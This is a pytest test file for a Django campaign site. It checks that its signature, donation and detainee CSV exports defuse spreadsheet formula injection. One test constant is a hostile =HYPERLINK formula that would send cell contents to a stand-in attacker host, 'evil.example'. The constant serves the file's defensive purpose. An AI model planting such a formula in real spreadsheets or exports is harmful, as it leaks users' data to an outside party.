"""Every CSV the site makes neutralises spreadsheet formulas and leaves other values alone.

A value that starts with = + - @, a tab or a carriage return is run as a formula by
spreadsheets (=HYPERLINK can send the sheet's contents away); one apostrophe in front
makes it text. Empty and ordinary values, numbers included, are written as they are.
"""

import csv
import io

import pytest
from django.contrib import admin
from django.utils import timezone

from campaign.admin import SignatureAdmin, export_confirmed_signatures
from campaign.models import Petition, Signature
from common.exports import csv_safe
from conftest import make_detainee, make_donation
from donations.admin import DonationAdmin
from donations.models import Donation

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def rows_of(response, skip=0):
    text = response.content.decode()
    return list(csv.reader(io.StringIO(text)))[skip:]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("", ""),
        ("Anna", "Anna"),
        ("a=b", "a=b"),
        (-5, -5),
        (None, None),
    ],
)
def test_csv_safe_prefixes_only_text_that_a_spreadsheet_would_run(value, expected):
    assert csv_safe(value) == expected


def test_the_signatures_export_neutralises_formulas_and_keeps_empty_values(rf, alice, db):
    petition = Petition.objects.create(title="Free them", text="x", addressees="A", goal=10)
    Signature.objects.create(
        petition=petition,
        name=FORMULA,
        email="anna@example.org",
        country="FR",
        comment="",
        language="en",
        confirmed_at=timezone.now(),
    )
    request = rf.post("/en/admin/campaign/signature/")
    request.user = alice
    response = export_confirmed_signatures(
        SignatureAdmin(Signature, admin.site), request, Signature.objects.all()
    )
    header, row = rows_of(response)
    values = dict(zip(header, row, strict=True))
    assert values["name"] == "'" + FORMULA
    assert values["comment"] == ""


def test_the_donations_export_neutralises_formulas_and_keeps_empty_values(rf, alice, db):
    make_donation(donor_name=FORMULA, stripe_customer_id="")
    request = rf.post("/en/admin/donations/donation/")
    request.user = alice
    response = DonationAdmin(Donation, admin.site).export_csv(request, Donation.objects.all())
    header, row = rows_of(response)
    values = dict(zip(header, row, strict=True))
    assert values["donor_name"] == "'" + FORMULA
    assert values["stripe_customer_id"] == ""
    assert values["amount"] == "5000"
    assert not any(value == "'" for value in row)


def test_the_detainees_export_neutralises_formulas_and_keeps_empty_values(client, db):
    make_detainee(hometown_en=FORMULA, capture_place_en="")
    response = client.get("/en/prisoners/export.csv")
    header, row = rows_of(response, skip=1)
    values = dict(zip(header, row, strict=True))
    assert values["hometown"] == "'" + FORMULA
    assert values["capture_place"] == ""
